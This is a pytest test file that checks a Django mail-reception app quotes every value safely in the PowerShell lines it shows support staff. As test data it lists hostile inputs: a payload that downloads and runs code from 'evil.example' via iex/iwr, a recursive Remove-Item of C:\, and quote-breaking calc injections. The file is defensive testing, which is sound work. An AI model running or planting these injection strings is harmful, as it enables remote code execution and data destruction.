"""Every value in the diagnosis' PowerShell lines is one single-quoted literal.

Support staff paste these lines into Exchange Online PowerShell. Inside a single-quoted string
PowerShell expands nothing; it closes the string at any of its five single-quote characters
(' ‘ ’ ‚ ‛) unless two of them follow each other. `literals` below reads a line with exactly
those rules, so a value that escaped its quotes shows up in the line's skeleton.
"""

import html
import importlib
import re

import pytest
from django.apps import apps
from django.urls import reverse

from reception.diagnosis import PowerShellValues, explain, powershell_literal
from reception.models import MailboxStatus, ReceptionMailbox
from reception.transports import (
    AuthMethod,
    ErrorKind,
    MailboxSettings,
    MailProtocol,
    Security,
    Stage,
    TokenClaims,
    TransportError,
)
from tests.factories.mailboxes import make_mailbox

PAYLOAD = "\"$(iex(iwr('https://evil.example/p')))\"@orga.example.test"
APP_ID = "11111111-2222-3333-4444-555555555555"
CONFIGURED_OID = "ffffffff-0000-1111-2222-333333333333"
SINGLE_QUOTES = "'\u2018\u2019\u201a\u201b"

HOSTILE = [
    PAYLOAD,
    "'; Remove-Item -Recurse C:\\ ; '",
    "x'",
    "'",
    "''",
    "’; iex ‘calc’; ‘",
    "‚‛'’‘",
    "a`$(calc)`b",
    '"; calc; "',
    "$env:USERPROFILE",
    "<AppId>",
    "",
]

#: Each line the diagnosis may print, with its values replaced by L.
SKELETONS = {
    "New-ServicePrincipal -AppId L -ObjectId L",
    "Get-ServicePrincipal -Organization L | fl",
    "Remove-ServicePrincipal -Identity L",
    "Remove-MailboxPermission -Identity L -User L -AccessRights FullAccess -InheritanceType All",
    "Add-MailboxPermission -Identity L -User L -AccessRights FullAccess",
    "Set-CASMailbox -Identity L -ImapEnabled $true",
    "Set-CASMailbox -Identity L -PopEnabled $true",
}


def literals(line: str) -> tuple[str, list[str]]:
    """The line with each single-quoted literal replaced by L, and the literals' values."""
    skeleton, values, index = [], [], 0
    while index < len(line):
        if line[index] not in SINGLE_QUOTES:
            skeleton.append(line[index])
            index += 1
            continue
        value, index = [], index + 1
        while True:
            assert index < len(line), f"unterminated literal in {line!r}"
            char = line[index]
            if char in SINGLE_QUOTES:
                if index + 1 < len(line) and line[index + 1] in SINGLE_QUOTES:
                    value.append(line[index + 1])
                    index += 2
                    continue
                index += 1
                break
            value.append(char)
            index += 1
        skeleton.append("L")
        values.append("".join(value))
    return "".join(skeleton), values


def assert_safe(lines) -> None:
    assert lines
    for line in lines:
        skeleton, _values = literals(line)
        assert skeleton in SKELETONS, line


@pytest.mark.parametrize("value", HOSTILE)
def test_the_helper_makes_one_literal_token_of_any_value(value):
    quoted = powershell_literal(value)

    assert quoted.startswith("'")
    assert quoted.endswith("'")
    assert literals(quoted) == ("L", [value])


def test_the_helper_doubles_every_kind_of_single_quote():
    assert powershell_literal("o'brien") == "'o''brien'"
    assert powershell_literal("o’brien‘‚‛") == "'o’’brien‘‘‚‚‛‛'"
    assert powershell_literal('"$(x)"`') == "'\"$(x)\"`'"


def _settings(username: str, **overrides) -> MailboxSettings:
    values = {
        "protocol": MailProtocol.IMAP,
        "auth": AuthMethod.OAUTH2,
        "host": "outlook.office365.com",
        "port": 993,
        "security": Security.SSL,
        "username": username,
        "tenant_id": "99999999-8888-7777-6666-555555555555",
        "client_id": APP_ID,
        "client_secret": "abC8Q~value",
        "object_id": CONFIGURED_OID,
    }
    values.update(overrides)
    return MailboxSettings(**values)


@pytest.mark.parametrize("kind", [ErrorKind.AUTH_REFUSED, ErrorKind.NOT_CONNECTED])
@pytest.mark.parametrize("value", [PAYLOAD, "’;calc;‘@x.test", "x'@x.test"])
def test_every_line_of_every_cause_quotes_hostile_values(kind, value):
    """Also the values of the token (oid, tid), whatever Entra ID is made to return."""
    claims = TokenClaims(
        audience="https://outlook.office365.com",
        tenant_id=value,
        app_id=APP_ID,
        object_id=value,
        roles=("IMAP.AccessAsApp",),
        expires_at=None,
    )
    causes = explain(TransportError(kind, Stage.AUTH, "refused"), _settings(value), claims)
    lines = [line for cause in causes for line in cause.commands]

    assert_safe(lines)
    assert any(line.startswith("Remove-ServicePrincipal") for line in lines)
    for line in lines:
        assert set(literals(line)[1]) <= {value, APP_ID, CONFIGURED_OID}, line


@pytest.mark.parametrize("protocol", [MailProtocol.IMAP, MailProtocol.POP3])
def test_the_protocol_line_quotes_the_mailbox(protocol):
    values = PowerShellValues.build(_settings(PAYLOAD), None)

    line = values.set_cas_mailbox(protocol)

    assert_safe([line])
    assert literals(line)[1] == [PAYLOAD]


@pytest.mark.django_db
def test_a_stored_user_from_before_the_rule_gets_only_quoted_lines(
    client, alice, configure_live_mailbox
):
    """A row saved before the form refused such users: "Probar conexión" still prints safe lines."""
    mailbox = configure_live_mailbox("imap")
    assert mailbox.status == MailboxStatus.ACTIVE, mailbox.status_reason
    ReceptionMailbox.objects.filter(pk=mailbox.pk).update(username=PAYLOAD)
    client.force_login(alice)

    response = client.post(reverse("admin:reception_receptionmailbox_check", args=[mailbox.pk]))

    assert response.status_code == 200
    mailbox.refresh_from_db()
    assert mailbox.status == MailboxStatus.INACTIVE
    stored = [
        line
        for step in mailbox.last_check["steps"]
        for cause in step["causes"]
        for line in cause["commands"]
    ]
    assert_safe(stored)
    assert any(PAYLOAD in literals(line)[1] for line in stored)
    shown = [
        html.unescape(line)
        for line in re.findall(
            r'<pre class="powershell"[^>]*>(.*?)</pre>', response.content.decode()
        )
    ]
    assert sorted(shown) == sorted(stored)


def test_lines_stored_before_the_quoting_are_forgotten(org_a):
    """A diagnosis kept from before shows its causes until the next check, not its old lines."""
    unsafe = f'Add-MailboxPermission -Identity "{PAYLOAD}" -User x -AccessRights FullAccess'
    step = {"id": "auth", "title": "Autenticación", "status": "failed", "detail": ""}
    cause = {"text": "Sin FullAccess.", "section": "Permiso", "commands": [unsafe]}
    mailbox = make_mailbox(
        org_a, last_check={"ok": False, "steps": [{**step, "causes": [cause]}, {**step}]}
    )
    migration = importlib.import_module("reception.migrations.0004_forget_unquoted_powershell")

    migration.forget_unquoted_powershell(apps, None)

    mailbox.refresh_from_db()
    assert mailbox.last_check["steps"] == [
        {**step, "causes": [{**cause, "commands": []}]},
        step,
    ]
